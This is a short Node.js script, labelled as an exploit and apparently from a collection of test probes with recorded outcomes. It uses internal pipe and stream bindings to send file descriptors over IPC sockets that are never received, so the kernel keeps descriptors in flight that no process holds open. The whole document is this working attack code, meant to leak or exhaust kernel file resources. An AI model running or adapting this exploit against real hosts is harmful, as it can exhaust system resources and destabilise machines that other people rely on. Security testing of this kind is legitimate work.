// exploit: sends descriptors to itself that it never receives, each holding a socket with the next, so that the kernel keeps files that nobody has open
// outcome: finished exited
// says: in flight
const net = require('node:net')
const { Pipe, constants } = process.binding('pipe_wrap')
const { WriteWrap, ConnectWrap } = { ...process.binding('stream_wrap'), ConnectWrap: process.binding('pipe_wrap').PipeConnectWrap }

const taken = []
const server = net.createServer({ pauseOnConnect: true }, (socket) => taken.push(socket)).listen('/tmp/flight.sock', () => {
  let flying = 0
  for (let round = 0; round < 60; round += 1) {
    const stream = new Pipe(constants.IPC)
    stream.connect(new ConnectWrap(), '/tmp/flight.sock')
    for (let index = 0; index < 100; index += 1) if (stream.writeUtf8String(new WriteWrap(), 'x', index % 2 ? server._handle : stream) === 0) flying += 1
    stream.close()
  }
  console.log('in flight', flying > 0)
  setTimeout(() => process.exit(), 300)
})
